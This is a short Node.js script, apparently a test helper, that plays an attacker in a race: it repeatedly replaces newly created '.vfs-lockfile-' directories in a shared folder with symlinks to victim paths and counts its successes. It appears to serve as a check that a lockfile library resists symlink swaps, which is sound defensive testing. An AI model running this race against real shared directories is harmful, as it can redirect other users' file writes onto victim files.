// @ts-check
/**
 * An attacker: swaps every private folder that appears for a link to what belongs to a victim, as fast as it can. Prints how often
 * it did.
 */
import { closeSync, existsSync, openSync, readdirSync, renameSync, symlinkSync } from 'node:fs';

const [shared = '', ...victims] = process.argv.slice(2);
process.chdir(shared);
closeSync(openSync('attack-ready', 'w'));

let swaps = 0;
while (!existsSync('attack-over')) {
  for (const entry of readdirSync('.', { withFileTypes: true })) {
    if (!entry.isDirectory() || !/^\.vfs-lockfile-[0-9a-f]{32}$/.test(entry.name)) continue;
    try {
      renameSync(entry.name, 'away');
      symlinkSync(victims[swaps % victims.length] ?? '', entry.name);
      swaps += 1;
    } catch {
      // The victim was faster, or what was swapped last time still stands there.
    }
    try {
      renameSync('away', `away-${swaps}`);
    } catch {
      continue;
    }
  }
}
console.log(swaps);
